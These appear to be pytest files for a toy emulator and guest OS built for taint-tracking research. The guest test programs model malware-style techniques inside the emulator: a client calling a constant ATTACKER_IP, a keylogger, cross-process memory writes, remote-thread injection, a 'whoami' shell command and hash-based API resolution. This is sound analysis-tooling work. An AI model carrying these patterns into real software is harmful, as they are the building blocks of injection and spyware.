            9_000, PacketEvent(Packet(REMOTE, 6001, machine.devices.nic.ip, 7777, b"B"))
        )
        machine.run()
        assert proc.exit_code == (ord("A") << 8) | ord("B")

    def test_two_listeners_on_distinct_ports(self, machine):
        a = spawn_asm(
            machine,
            "a.exe",
            """
            start:
                movi r0, SYS_SOCKET
                syscall
                mov r7, r0
                mov r1, r7
                movi r2, 1111
                movi r0, SYS_LISTEN
                syscall
                mov r1, r7
                movi r0, SYS_ACCEPT
                syscall
                movi r1, 1
                movi r0, SYS_EXIT
                syscall
            """,
        )
        b = spawn_asm(
            machine,
            "b.exe",
            """
            start:
                movi r0, SYS_SOCKET
                syscall
                mov r7, r0
                mov r1, r7
                movi r2, 2222
                movi r0, SYS_LISTEN
                syscall
                mov r1, r7
                movi r0, SYS_ACCEPT
                syscall
                movi r1, 2
                movi r0, SYS_EXIT
                syscall
            """,
        )
        machine.schedule(
            5_000, PacketEvent(Packet(REMOTE, 1, machine.devices.nic.ip, 2222, b"x"))
        )
        machine.schedule(
            6_000, PacketEvent(Packet(REMOTE, 2, machine.devices.nic.ip, 1111, b"y"))
        )
        machine.run()
        assert a.exit_code == 1 and b.exit_code == 2
