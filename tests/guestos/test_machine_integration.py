"""Integration tests: guest programs running on the full machine.

These exercise the whole substrate stack -- assembler, loader, kernel
syscalls, scheduler, devices -- before any taint tracking exists.
"""

import pytest

from repro.emulator.devices import Packet
from repro.emulator.machine import Machine, MachineConfig
from repro.emulator.record_replay import (
    KeystrokeEvent,
    PacketEvent,
    Recording,
    ReplayDivergence,
    Scenario,
    record,
    replay,
)
from repro.guestos import layout
from repro.guestos.process import ThreadState

from tests.conftest import register_asm, spawn_asm

ATTACKER_IP = "169.254.26.161"


class TestBasicExecution:
    def test_hello_console(self, machine):
        spawn_asm(
            machine,
            "hello.exe",
            """
            start:
                movi r1, msg
                movi r2, 5
                movi r0, SYS_WRITE_CONSOLE
                syscall
                movi r1, 0
                movi r0, SYS_EXIT
                syscall
            msg: .ascii "hello"
            """,
        )
        machine.run()
        assert machine.kernel.console_log[-1][1] == "hello"

    def test_exit_code_recorded(self, machine):
        proc = spawn_asm(
            machine, "exit.exe", "start: movi r1, 42\nmovi r0, SYS_EXIT\nsyscall"
        )
        machine.run()
        assert not proc.alive and proc.exit_code == 42

    def test_hlt_terminates_process(self, machine):
        proc = spawn_asm(machine, "h.exe", "start: movi r0, 7\nhlt")
        machine.run()
        assert not proc.alive and proc.exit_code == 7

    def test_two_processes_interleave(self, machine):
        body = """
        start:
            movi r7, 0
        loop:
            addi r7, r7, 1
            cmpi r7, 2000
            jnz loop
            hlt
        """
        a = spawn_asm(machine, "a.exe", body)
        b = spawn_asm(machine, "b.exe", body)
        machine.run()
        assert not a.alive and not b.alive

    def test_crash_kills_only_faulting_process(self, machine):
        bad = spawn_asm(
            machine, "bad.exe", "start: movi r1, 0xdead0000\nld r2, [r1]\nhlt"
        )
        good = spawn_asm(machine, "good.exe", "start: movi r1, 0\nmovi r0, SYS_EXIT\nsyscall")
        machine.run()
        assert not bad.alive and bad.exit_code == 0xDEAD
        assert good.exit_code == 0

    def test_sleep_blocks_and_wakes(self, machine):
        proc = spawn_asm(
            machine,
            "sleeper.exe",
            """
            start:
                movi r1, 5000
                movi r0, SYS_SLEEP
                syscall
                movi r1, 9
                movi r0, SYS_EXIT
                syscall
            """,
        )
        machine.run()
        assert proc.exit_code == 9
        assert machine.now >= 5000

    def test_get_time_monotonic(self, machine):
        spawn_asm(
            machine,
            "time.exe",
            """
            start:
                movi r0, SYS_GET_TIME
                syscall
                mov r7, r0
                movi r0, SYS_GET_TIME
                syscall
                cmp r0, r7
                jgt ok
                hlt
            ok:
                movi r1, 0
                movi r0, SYS_EXIT
                syscall
            """,
        )
        proc = machine.kernel.processes[100]
        machine.run()
        assert proc.exit_code == 0


class TestMemorySyscalls:
    def test_alloc_write_read(self, machine):
        proc = spawn_asm(
            machine,
            "alloc.exe",
            """
            start:
                movi r1, 64
                movi r2, PERM_RW
                movi r0, SYS_ALLOC
                syscall
                mov r7, r0              ; buffer address
                movi r5, 0xabcd
                st [r7+8], r5
                ld r6, [r7+8]
                mov r1, r6
                movi r0, SYS_EXIT
                syscall
            """,
        )
        machine.run()
        assert proc.exit_code == 0xABCD

    def test_alloc_returns_heap_address(self, machine):
        proc = spawn_asm(
            machine,
            "heap.exe",
            """
            start:
                movi r1, 16
                movi r2, PERM_RW
                movi r0, SYS_ALLOC
                syscall
                mov r1, r0
                movi r0, SYS_EXIT
                syscall
            """,
        )
        machine.run()
        assert layout.HEAP_BASE <= proc.exit_code < layout.HEAP_LIMIT

    def test_protect_then_execute(self, machine):
        # Allocate RW, copy a tiny routine in, flip to RX, call it.
        proc = spawn_asm(
            machine,
            "jitlike.exe",
            """
            start:
                movi r1, 32
                movi r2, PERM_RW
                movi r0, SYS_ALLOC
                syscall
                mov r7, r0
                ; copy 16 bytes of code from template
                movi r2, template
                mov r3, r7
                movi r4, 16
            copy:
                ldb r5, [r2]
                stb [r3], r5
                addi r2, r2, 1
                addi r3, r3, 1
                subi r4, r4, 1
                cmpi r4, 0
                jnz copy
                ; make it executable
                mov r1, r7
                movi r2, 32
                movi r3, PERM_RX
                movi r0, SYS_PROTECT
                syscall
                callr r7
                mov r1, r6              ; routine sets r6
                movi r0, SYS_EXIT
                syscall
            template:
                movi r6, 123
                ret
            """,
        )
        machine.run()
        assert proc.exit_code == 123

    def test_write_to_rx_memory_faults(self, machine):
        proc = spawn_asm(
            machine,
            "wx.exe",
            """
            start:
                movi r1, 16
                movi r2, PERM_RX
                movi r0, SYS_ALLOC
                syscall
                mov r7, r0
                movi r5, 1
                st [r7], r5     ; page is r-x: faults
                hlt
            """,
        )
        machine.run()
        assert proc.exit_code == 0xDEAD


class TestFileSyscalls:
    def test_create_write_read_roundtrip(self, machine):
        proc = spawn_asm(
            machine,
            "files.exe",
            """
            start:
                movi r1, path
                movi r0, SYS_CREATE_FILE
                syscall
                mov r7, r0
                mov r1, r7
                movi r2, payload
                movi r3, 4
                movi r0, SYS_WRITE_FILE
                syscall
                ; reopen to reset the offset
                movi r1, path
                movi r0, SYS_OPEN_FILE
                syscall
                mov r7, r0
                mov r1, r7
                movi r2, readbuf
                movi r3, 4
                movi r0, SYS_READ_FILE
                syscall
                ld r1, [r5+readbuf]    ; r5 is 0
                movi r0, SYS_EXIT
                syscall
            path: .asciz "C:\\\\tmp\\\\t.dat"
            payload: .word 0x31337
            readbuf: .space 4
            """,
        )
        machine.run()
        assert proc.exit_code == 0x31337
        assert machine.kernel.fs.exists("C:\\tmp\\t.dat")

    def test_open_missing_file_fails(self, machine):
        proc = spawn_asm(
            machine,
            "missing.exe",
            """
            start:
                movi r1, path
                movi r0, SYS_OPEN_FILE
                syscall
                mov r1, r0
                movi r0, SYS_EXIT
                syscall
            path: .asciz "nope.txt"
            """,
        )
        machine.run()
        assert proc.exit_code == 0xFFFFFFFF

    def test_delete_file(self, machine):
        machine.kernel.fs.create("C:\\drop.exe", b"xx")
        proc = spawn_asm(
            machine,
            "del.exe",
            """
            start:
                movi r1, path
                movi r0, SYS_DELETE_FILE
                syscall
                mov r1, r0
                movi r0, SYS_EXIT
                syscall
            path: .asciz "C:\\\\drop.exe"
            """,
        )
        machine.run()
        assert proc.exit_code == 0
        assert not machine.kernel.fs.exists("C:\\drop.exe")


class TestNetworkSyscalls:
    def echo_client(self, machine):
        """A client that connects out, receives 4 bytes, echoes them back."""
        return spawn_asm(
            machine,
            "client.exe",
            f"""
            start:
                movi r0, SYS_SOCKET
                syscall
                mov r7, r0
                mov r1, r7
                movi r2, ip
                movi r3, 4444
                movi r0, SYS_CONNECT
                syscall
                mov r1, r7
                movi r2, buf
                movi r3, 4
                movi r0, SYS_RECV
                syscall
                mov r1, r7
                movi r2, buf
                movi r3, 4
                movi r0, SYS_SEND
                syscall
                ld r1, [r5+buf]
                movi r0, SYS_EXIT
                syscall
            ip: .asciz "{ATTACKER_IP}"
            buf: .space 4
            """,
        )

    def test_connect_recv_send(self, machine):
        proc = self.echo_client(machine)
        # Client's ephemeral port is 49152 (first connect).
        machine.schedule(
            2000,
            PacketEvent(
                Packet(ATTACKER_IP, 4444, machine.devices.nic.ip, 49152, b"\x78\x56\x34\x12")
            ),
        )
        machine.run()
        assert proc.exit_code == 0x12345678
        sent = [p for p in machine.devices.nic.tx_log if p.payload]
        assert sent and sent[-1].payload == b"\x78\x56\x34\x12"

    def test_recv_blocks_until_packet(self, machine):
        proc = self.echo_client(machine)
        machine.run(max_instructions=50_000)
        # No packet yet: blocked, not dead.
        assert proc.alive
        assert proc.main_thread.state is ThreadState.BLOCKED

    def test_listen_accept(self, machine):
        proc = spawn_asm(
            machine,
            "server.exe",
            """
            start:
                movi r0, SYS_SOCKET
                syscall
                mov r7, r0
                mov r1, r7
                movi r2, 8080
                movi r0, SYS_LISTEN
                syscall
                mov r1, r7
                movi r0, SYS_ACCEPT
                syscall
                mov r7, r0          ; connection handle
                mov r1, r7
                movi r2, buf
                movi r3, 2
                movi r0, SYS_RECV
                syscall
                ldb r1, [r5+buf]
                movi r0, SYS_EXIT
                syscall
            buf: .space 2
            """,
        )
        machine.schedule(
            1500,
            PacketEvent(Packet(ATTACKER_IP, 5555, machine.devices.nic.ip, 8080, b"\x41\x42")),
        )
        machine.run()
        assert proc.exit_code == 0x41

    def test_unmatched_packet_dropped(self, machine):
        spawn_asm(machine, "idle.exe", "start: hlt")
        machine.schedule(
            10, PacketEvent(Packet(ATTACKER_IP, 1, machine.devices.nic.ip, 9999, b"x"))
        )
        machine.run()  # must not crash
        assert machine.kernel.netstack.seen_flows == []


class TestProcessSyscalls:
    def test_create_process_runs_child(self, machine):
        register_asm(machine, "child.exe", "start: movi r1, 5\nmovi r0, SYS_EXIT\nsyscall")
        spawn_asm(
            machine,
            "parent.exe",
            """
            start:
                movi r1, path
                movi r2, 0
                movi r0, SYS_CREATE_PROCESS
                syscall
                movi r1, 0
                movi r0, SYS_EXIT
                syscall
            path: .asciz "child.exe"
            """,
        )
        machine.run()
        child = next(
            p for p in machine.kernel.processes.values() if p.name == "child.exe"
        )
        assert child.exit_code == 5

    def test_create_suspended_then_resume(self, machine):
        register_asm(machine, "child.exe", "start: movi r1, 5\nmovi r0, SYS_EXIT\nsyscall")
        spawn_asm(
            machine,
            "parent.exe",
            """
            start:
                movi r1, path
                movi r2, 1          ; CREATE_SUSPENDED
                movi r0, SYS_CREATE_PROCESS
                syscall
                mov r7, r0
                ; let some time pass; the child must not run
                movi r1, 3000
                movi r0, SYS_SLEEP
                syscall
                mov r1, r7
                movi r0, SYS_RESUME_THREAD
                syscall
                movi r1, 0
                movi r0, SYS_EXIT
                syscall
            path: .asciz "child.exe"
            """,
        )
        machine.run()
        child = machine.kernel.find_process("child.exe") or next(
            p for p in machine.kernel.processes.values() if p.name == "child.exe"
        )
        assert child.exit_code == 5
        assert child.created_suspended

    def test_find_and_terminate(self, machine):
        victim = spawn_asm(
            machine,
            "victim.exe",
            "start: movi r1, 100000\nmovi r0, SYS_SLEEP\nsyscall\nhlt",
        )
        killer = spawn_asm(
            machine,
            "killer.exe",
            """
            start:
                movi r1, name
                movi r0, SYS_FIND_PROCESS
                syscall
                mov r1, r0
                movi r0, SYS_OPEN_PROCESS
                syscall
                mov r1, r0
                movi r2, 77
                movi r0, SYS_TERMINATE
                syscall
                movi r1, 0
                movi r0, SYS_EXIT
                syscall
            name: .asciz "victim.exe"
            """,
        )
        machine.run()
        assert victim.exit_code == 77 and killer.exit_code == 0

    def test_write_vm_into_other_process(self, machine):
        victim = spawn_asm(
            machine,
            "victim.exe",
            """
            start:
                movi r1, 64
                movi r2, PERM_RW
                movi r0, SYS_ALLOC
                syscall
                movi r1, 60000
                movi r0, SYS_SLEEP
                syscall
                ld r1, [r7+HEAP_BASE]   ; r7 = 0; read first heap word
                movi r0, SYS_EXIT
                syscall
            """,
        )
        spawn_asm(
            machine,
            "writer.exe",
            """
            start:
                movi r1, 2000
                movi r0, SYS_SLEEP
                syscall
                movi r1, name
                movi r0, SYS_FIND_PROCESS
                syscall
                mov r1, r0
                movi r0, SYS_OPEN_PROCESS
                syscall
                mov r7, r0
                mov r1, r7
                movi r2, HEAP_BASE
                movi r3, value
                movi r4, 4
                movi r0, SYS_WRITE_VM
                syscall
                movi r1, 0
                movi r0, SYS_EXIT
                syscall
            name: .asciz "victim.exe"
            value: .word 0x5ca1ab1e
            """,
        )
        machine.run()
        assert victim.exit_code == 0x5CA1AB1E

    def test_remote_thread_runs_in_target_space(self, machine):
        victim = spawn_asm(
            machine,
            "victim.exe",
            """
            start:
                movi r1, 100000
                movi r0, SYS_SLEEP
                syscall
                hlt
            ; this routine is part of the victim image; a remote thread
            ; will be pointed at it
            routine:
                movi r1, 31
                movi r0, SYS_EXIT
                syscall
            """,
        )
        routine_addr = layout.IMAGE_BASE + 4 * 8  # after sleep(3) + hlt
        spawn_asm(
            machine,
            "injector.exe",
            f"""
            start:
                movi r1, 1000
                movi r0, SYS_SLEEP
                syscall
                movi r1, name
                movi r0, SYS_FIND_PROCESS
                syscall
                mov r1, r0
                movi r0, SYS_OPEN_PROCESS
                syscall
                mov r1, r0
                movi r2, {routine_addr}
                movi r3, 0
                movi r0, SYS_CREATE_REMOTE_THREAD
                syscall
                movi r1, 0
                movi r0, SYS_EXIT
                syscall
            name: .asciz "victim.exe"
            """,
        )
        machine.run()
        assert victim.exit_code == 31


class TestDevices:
    def test_keylogger_reads_keystrokes(self, machine):
        proc = spawn_asm(
            machine,
            "keys.exe",
            """
            start:
                movi r1, buf
                movi r2, 4
                movi r0, SYS_READ_KEYS
                syscall
                cmpi r0, 0
                jz start            ; poll until keys arrive
                ldb r1, [r5+buf]
                movi r0, SYS_EXIT
                syscall
            buf: .space 4
            """,
        )
        machine.schedule(3000, KeystrokeEvent(b"pw"))
        machine.run(max_instructions=200_000)
        assert proc.exit_code == ord("p")

    def test_audio_read_is_deterministic(self, machine):
        spawn_asm(
            machine,
            "audio.exe",
            """
            start:
                movi r1, buf
                movi r2, 8
                movi r0, SYS_READ_AUDIO
                syscall
                movi r1, 0
                movi r0, SYS_EXIT
                syscall
            buf: .space 8
            """,
        )
        machine.run()
        other = Machine(MachineConfig())
        spawn_asm(
            other,
            "audio.exe",
            """
            start:
                movi r1, buf
                movi r2, 8
                movi r0, SYS_READ_AUDIO
                syscall
                movi r1, 0
                movi r0, SYS_EXIT
                syscall
            buf: .space 8
            """,
        )
        other.run()
        # Same seed, same samples: find them in guest memory via fs? easier:
        # compare the DMA-independent audio streams directly.
        assert machine.devices.audio._state == other.devices.audio._state

    def test_exec_cmd_logged(self, machine):
        spawn_asm(
            machine,
            "shell.exe",
            """
            start:
                movi r1, cmd
                movi r0, SYS_EXEC_CMD
                syscall
                movi r1, 0
                movi r0, SYS_EXIT
                syscall
            cmd: .asciz "whoami"
            """,
        )
        machine.run()
        assert machine.kernel.shell_log[-1][1] == "whoami"


class TestRecordReplay:
    def scenario(self):
        def setup(machine):
            register_asm(
                machine,
                "echo.exe",
                f"""
                start:
                    movi r0, SYS_SOCKET
                    syscall
                    mov r7, r0
                    mov r1, r7
                    movi r2, ip
                    movi r3, 4444
                    movi r0, SYS_CONNECT
                    syscall
                    mov r1, r7
                    movi r2, buf
                    movi r3, 8
                    movi r0, SYS_RECV
                    syscall
                    movi r1, 0
                    movi r0, SYS_EXIT
                    syscall
                ip: .asciz "{ATTACKER_IP}"
                buf: .space 8
                """,
            )
            machine.kernel.spawn("echo.exe")

        return Scenario(
            name="echo",
            setup=setup,
            events=[
                (
                    2500,
                    PacketEvent(
                        Packet(ATTACKER_IP, 4444, "169.254.57.168", 49152, b"ABCDEFGH")
                    ),
                )
            ],
        )

    def test_record_then_replay_is_deterministic(self):
        recording = record(self.scenario())
        machine = replay(recording)  # raises ReplayDivergence on mismatch
        assert machine.now == recording.final_instret

    def test_replay_detects_divergence(self):
        recording = record(self.scenario())
        tampered = Recording(
            scenario=recording.scenario,
            journal=recording.journal,
            final_instret=recording.final_instret + 1,
            stats=recording.stats,
        )
        with pytest.raises(ReplayDivergence):
            replay(tampered)

    def test_plugins_attach_at_replay(self):
        from repro.emulator.plugins import Plugin

        class Counter(Plugin):
            def __init__(self):
                super().__init__()
                self.instructions = 0

            def on_insn_exec(self, machine, thread, fx):
                self.instructions += 1

        recording = record(self.scenario())
        counter = Counter()
        replay(recording, plugins=[counter])
        assert counter.instructions > 0
