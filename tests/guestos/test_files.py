"""Unit tests for the guest filesystem."""

import pytest

from repro.guestos.files import FileError, FileSystem


@pytest.fixture
def fs():
    return FileSystem()


class TestBasicOperations:
    def test_create_and_open(self, fs):
        fs.create("C:\\a.txt", b"hello")
        assert bytes(fs.open("C:\\a.txt").data) == b"hello"

    def test_paths_case_insensitive(self, fs):
        fs.create("C:\\Windows\\System32\\cfg.dat", b"x")
        assert fs.exists("c:\\windows\\system32\\CFG.DAT")

    def test_open_missing_raises(self, fs):
        with pytest.raises(FileError):
            fs.open("nope")

    def test_create_truncates_existing(self, fs):
        fs.create("a", b"long content here")
        fs.create("a", b"x")
        assert bytes(fs.open("a").data) == b"x"

    def test_delete(self, fs):
        fs.create("a", b"x")
        fs.delete("a")
        assert not fs.exists("a")

    def test_delete_missing_raises(self, fs):
        with pytest.raises(FileError):
            fs.delete("a")

    def test_list_paths_preserves_original_casing(self, fs):
        fs.create("C:\\Mixed.TXT")
        assert fs.list_paths() == ["C:\\Mixed.TXT"]

    def test_get_returns_none_for_missing(self, fs):
        assert fs.get("nope") is None


class TestReadWrite:
    def test_write_extends_file(self, fs):
        fs.create("a")
        fs.write("a", 4, b"data")
        assert bytes(fs.open("a").data) == b"\x00\x00\x00\x00data"

    def test_write_overwrites_in_place(self, fs):
        fs.create("a", b"AAAAAA")
        fs.write("a", 2, b"BB")
        assert bytes(fs.open("a").data) == b"AABBAA"

    def test_read_at_offset(self, fs):
        fs.create("a", b"0123456789")
        assert fs.read("a", 3, 4) == b"3456"

    def test_read_past_end_truncates(self, fs):
        fs.create("a", b"xy")
        assert fs.read("a", 1, 100) == b"y"


class TestVersioning:
    """File tags carry (name, version); versions count accesses."""

    def test_new_file_version_zero(self, fs):
        assert fs.create("a").version == 0

    def test_reads_and_writes_bump_version(self, fs):
        fs.create("a", b"x")
        fs.read("a", 0, 1)
        fs.write("a", 0, b"y")
        fs.read("a", 0, 1)
        assert fs.open("a").version == 3

    def test_touch_returns_new_version(self, fs):
        node = fs.create("a")
        assert node.touch() == 1
        assert node.touch() == 2


class TestAuditLog:
    def test_operations_logged_in_order(self, fs):
        fs.create("a", b"x")
        fs.read("a", 0, 1)
        fs.write("a", 0, b"z")
        fs.delete("a")
        assert fs.audit_log == [
            ("create", "a"),
            ("read", "a"),
            ("write", "a"),
            ("delete", "a"),
        ]
