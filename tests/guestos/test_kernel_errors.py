"""Kernel syscall error paths: bad handles, bad pointers, bad requests.

The guest ABI returns ERR (0xFFFFFFFF) for failures; none of these may
crash the machine or unrelated processes.
"""

import pytest

from repro.guestos.syscalls import ERR

from tests.conftest import register_asm, spawn_asm

EXIT_R0 = """
    mov r1, r0
    movi r0, SYS_EXIT
    syscall
"""


def run_expect(machine, body, expected):
    proc = spawn_asm(machine, "t.exe", body + EXIT_R0)
    machine.run()
    assert proc.exit_code == expected, f"exit {proc.exit_code:#x} != {expected:#x}"
    return proc


class TestBadHandles:
    def test_read_file_bad_handle(self, machine):
        run_expect(
            machine,
            "start:\nmovi r1, 999\nmovi r2, 0x2000\nmovi r3, 4\nmovi r0, SYS_READ_FILE\nsyscall",
            ERR,
        )

    def test_write_file_bad_handle(self, machine):
        run_expect(
            machine,
            "start:\nmovi r1, 999\nmovi r2, IMAGE_BASE\nmovi r3, 4\nmovi r0, SYS_WRITE_FILE\nsyscall",
            ERR,
        )

    def test_close_bad_handle(self, machine):
        run_expect(machine, "start:\nmovi r1, 999\nmovi r0, SYS_CLOSE\nsyscall", ERR)

    def test_socket_handle_is_not_a_file(self, machine):
        run_expect(
            machine,
            """
            start:
                movi r0, SYS_SOCKET
                syscall
                mov r1, r0
                movi r2, IMAGE_BASE
                movi r3, 4
                movi r0, SYS_READ_FILE
                syscall
            """,
            ERR,
        )

    def test_send_on_unconnected_socket(self, machine):
        run_expect(
            machine,
            """
            start:
                movi r0, SYS_SOCKET
                syscall
                mov r1, r0
                movi r2, IMAGE_BASE
                movi r3, 4
                movi r0, SYS_SEND
                syscall
            """,
            ERR,
        )

    def test_open_process_bad_pid(self, machine):
        run_expect(machine, "start:\nmovi r1, 4242\nmovi r0, SYS_OPEN_PROCESS\nsyscall", ERR)

    def test_write_vm_bad_handle(self, machine):
        run_expect(
            machine,
            "start:\nmovi r1, 999\nmovi r2, 0x1000\nmovi r3, IMAGE_BASE\nmovi r4, 4\nmovi r0, SYS_WRITE_VM\nsyscall",
            ERR,
        )

    def test_process_handle_of_dead_process_rejected(self, machine):
        register_asm(machine, "victim.exe", "start: movi r1, 0\nmovi r0, SYS_EXIT\nsyscall")
        run_expect(
            machine,
            """
            path: .asciz "victim.exe"
            start:
                movi r1, path
                movi r2, 0
                movi r0, SYS_CREATE_PROCESS
                syscall
                mov r7, r0
                movi r1, 8000
                movi r0, SYS_SLEEP
                syscall          ; child exits meanwhile
                mov r1, r7
                movi r2, 0x1000
                movi r3, IMAGE_BASE
                movi r4, 4
                movi r0, SYS_READ_VM
                syscall
            """,
            ERR,
        )


class TestBadPointers:
    def test_bad_buffer_pointer_fails_syscall_not_machine(self, machine):
        run_expect(
            machine,
            "start:\nmovi r1, 0xdd0000\nmovi r2, 8\nmovi r0, SYS_WRITE_CONSOLE\nsyscall",
            ERR,
        )

    def test_bad_string_pointer(self, machine):
        run_expect(
            machine,
            "start:\nmovi r1, 0xdd0000\nmovi r0, SYS_CREATE_FILE\nsyscall",
            ERR,
        )

    def test_write_vm_to_unmapped_target_address(self, machine):
        spawn_asm(machine, "victim.exe", "start:\nmovi r1, 90000\nmovi r0, SYS_SLEEP\nsyscall\nhlt")
        run_expect(
            machine,
            """
            name: .asciz "victim.exe"
            start:
                movi r1, name
                movi r0, SYS_FIND_PROCESS
                syscall
                mov r1, r0
                movi r0, SYS_OPEN_PROCESS
                syscall
                mov r1, r0
                movi r2, 0xee0000      ; unmapped in victim
                movi r3, IMAGE_BASE
                movi r4, 4
                movi r0, SYS_WRITE_VM
                syscall
            """,
            ERR,
        )


class TestBadRequests:
    def test_unknown_syscall_number(self, machine):
        run_expect(machine, "start:\nmovi r0, 9999\nsyscall", ERR)

    def test_alloc_zero_bytes(self, machine):
        run_expect(
            machine,
            "start:\nmovi r1, 0\nmovi r2, PERM_RW\nmovi r0, SYS_ALLOC\nsyscall",
            ERR,
        )

    def test_free_unmapped_address(self, machine):
        run_expect(machine, "start:\nmovi r1, 0x50000\nmovi r0, SYS_FREE\nsyscall", ERR)

    def test_alloc_vm_overlapping_hint(self, machine):
        # Hinting at the target's image base without unmapping first fails.
        spawn_asm(machine, "victim.exe", "start:\nmovi r1, 90000\nmovi r0, SYS_SLEEP\nsyscall\nhlt")
        run_expect(
            machine,
            """
            name: .asciz "victim.exe"
            start:
                movi r1, name
                movi r0, SYS_FIND_PROCESS
                syscall
                mov r1, r0
                movi r0, SYS_OPEN_PROCESS
                syscall
                mov r1, r0
                movi r2, 64
                movi r3, PERM_RWX
                movi r4, IMAGE_BASE
                movi r0, SYS_ALLOC_VM
                syscall
            """,
            ERR,
        )

    def test_create_process_unknown_image(self, machine):
        run_expect(
            machine,
            """
            path: .asciz "ghost.exe"
            start:
                movi r1, path
                movi r2, 0
                movi r0, SYS_CREATE_PROCESS
                syscall
            """,
            ERR,
        )

    def test_find_process_excludes_self(self, machine):
        run_expect(
            machine,
            """
            own: .asciz "t.exe"
            start:
                movi r1, own
                movi r0, SYS_FIND_PROCESS
                syscall
            """,
            ERR,
        )

    def test_get_proc_addr_unknown_hash(self, machine):
        run_expect(
            machine,
            "start:\nmovi r1, 0x12345678\nmovi r0, SYS_GET_PROC_ADDR\nsyscall",
            ERR,
        )

    def test_get_proc_addr_known_hash(self, machine):
        from repro.guestos.loader import fnv1a32, stub_address

        run_expect(
            machine,
            f"start:\nmovi r1, {fnv1a32('VirtualAlloc')}\nmovi r0, SYS_GET_PROC_ADDR\nsyscall",
            stub_address("VirtualAlloc"),
        )
