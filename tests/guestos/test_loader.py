"""Unit tests for the module loader, export tables, and API stubs."""

import pytest

from repro.guestos.layout import KERNEL_SHARED_BASE
from repro.guestos.loader import (
    API_TABLE,
    build_kernel_module,
    export_resolver_asm,
    export_table_address,
    fnv1a32,
    stub_address,
)
from repro.guestos.syscalls import Sys
from repro.isa.assembler import assemble
from repro.isa.instructions import Op, decode


class TestFnv1a32:
    def test_known_vector(self):
        # FNV-1a("") = offset basis; FNV-1a("a") is a standard vector.
        assert fnv1a32("a") == 0xE40C292C

    def test_distinct_api_hashes(self):
        hashes = [fnv1a32(api) for api, _s in API_TABLE]
        assert len(hashes) == len(set(hashes)), "hash collision in API table"

    def test_hash_fits_32_bits(self):
        for api, _s in API_TABLE:
            assert 0 <= fnv1a32(api) <= 0xFFFFFFFF


class TestStubLayout:
    def test_stub_addresses_sequential(self):
        first, _ = API_TABLE[0]
        second, _ = API_TABLE[1]
        assert stub_address(first) == KERNEL_SHARED_BASE
        assert stub_address(second) == KERNEL_SHARED_BASE + 24

    def test_unknown_api_raises(self):
        with pytest.raises(KeyError):
            stub_address("NotAnApi")

    def test_export_table_after_stubs(self):
        assert export_table_address() == KERNEL_SHARED_BASE + 24 * len(API_TABLE)


class TestKernelModule:
    @pytest.fixture(scope="class")
    def module(self):
        return build_kernel_module()

    def test_every_api_exported(self, module):
        assert set(module.exports) == {api for api, _s in API_TABLE}

    def test_stub_encodes_movi_syscall_ret(self, module):
        offset = stub_address("VirtualAlloc") - KERNEL_SHARED_BASE
        movi = decode(module.image, offset)
        syscall = decode(module.image, offset + 8)
        ret = decode(module.image, offset + 16)
        assert movi.op is Op.MOVI and movi.imm == Sys.ALLOC
        assert syscall.op is Op.SYSCALL
        assert ret.op is Op.RET

    def test_export_table_layout(self, module):
        table_off = module.export_table_vaddr - module.base
        count = int.from_bytes(module.image[table_off : table_off + 4], "little")
        assert count == len(API_TABLE)
        # First entry: (hash, stub address) of API_TABLE[0].
        api, _sys = API_TABLE[0]
        entry = module.image[table_off + 4 : table_off + 12]
        assert int.from_bytes(entry[:4], "little") == fnv1a32(api)
        assert int.from_bytes(entry[4:], "little") == stub_address(api)

    def test_export_pointer_vaddrs_point_at_fnptr_fields(self, module):
        for index, vaddr in enumerate(module.export_pointer_vaddrs):
            offset = vaddr - module.base
            addr = int.from_bytes(module.image[offset : offset + 4], "little")
            api, _sys = API_TABLE[index]
            assert addr == stub_address(api)

    def test_cached_across_calls(self, module):
        assert build_kernel_module() is module


class TestExportResolver:
    def test_resolver_assembles(self):
        source = export_resolver_asm("VirtualAlloc").format(uid="t")
        prog = assemble(source + "\nhlt", base=0x4000)
        assert len(prog.code) > 0

    def test_resolver_embeds_target_hash(self):
        source = export_resolver_asm("GetProcAddress").format(uid="t")
        assert str(fnv1a32("GetProcAddress")) in source

    def test_resolver_finds_pointer_at_runtime(self):
        """Assemble the resolver against a real machine and check the
        resolved address is the stub's."""
        from repro.emulator.machine import Machine, MachineConfig
        from repro.guestos import layout
        from repro.guestos.asmlib import program
        from repro.isa.registers import Reg

        machine = Machine(MachineConfig())
        body = export_resolver_asm("WriteFile", result_reg="r7").format(uid="x")
        prog = assemble(
            program("start:", body, "hlt"), base=layout.IMAGE_BASE
        )
        machine.kernel.register_image("r.exe", prog)
        proc = machine.kernel.spawn("r.exe")
        machine.run(100_000)
        assert proc.main_thread.context["regs"][Reg.R7] == stub_address("WriteFile")
