"""Unit tests for the guest-assembly helper library."""

import pytest

from repro.guestos import layout
from repro.guestos.asmlib import (
    busy_loop,
    copy_loop,
    exit_process,
    prelude,
    program,
    print_string,
    sleep,
    syscall3,
)
from repro.guestos.loader import API_TABLE, fnv1a32, stub_address
from repro.guestos.syscalls import Sys
from repro.isa.assembler import assemble

from tests.conftest import spawn_asm


class TestPrelude:
    def test_prelude_assembles_to_nothing(self):
        assert assemble(prelude()).code == b""

    def test_defines_every_syscall(self):
        text = prelude()
        for member in Sys:
            assert f".equ SYS_{member.name}, {int(member)}" in text

    def test_defines_layout_constants(self):
        prog = assemble(prelude() + "\nmovi r1, IMAGE_BASE\nmovi r2, STACK_TOP")
        from repro.isa.instructions import decode

        assert decode(prog.code).imm == layout.IMAGE_BASE
        assert decode(prog.code, 8).imm == layout.STACK_TOP

    def test_defines_stub_and_hash_constants(self):
        text = prelude()
        assert f".equ STUB_VIRTUALALLOC, {stub_address('VirtualAlloc'):#x}" in text
        assert f".equ HASH_VIRTUALALLOC, {fnv1a32('VirtualAlloc'):#x}" in text

    def test_api_names_sanitised_for_assembler(self):
        # 'socket' etc. are lowercase in the API table; symbols upper.
        assert ".equ STUB_SOCKET," in prelude()


class TestSnippets:
    def test_syscall3_with_immediates(self):
        source = program("start:", syscall3("SYS_SLEEP", "100"), "hlt")
        assert assemble(source, base=layout.IMAGE_BASE).code

    def test_syscall3_with_register_args(self):
        source = program("start:", syscall3("SYS_SEND", "r7", "0x2000", "4"), "hlt")
        prog = assemble(source, base=layout.IMAGE_BASE)
        from repro.isa.instructions import Op, decode

        first = decode(prog.code)
        assert first.op is Op.MOV  # register arg moved, not movi'd

    def test_exit_and_sleep_helpers(self, machine):
        proc = spawn_asm(machine, "t.exe", "start:", sleep(100), exit_process(7))
        machine.run()
        assert proc.exit_code == 7

    def test_print_string_helper(self, machine):
        proc = spawn_asm(
            machine,
            "t.exe",
            "start:",
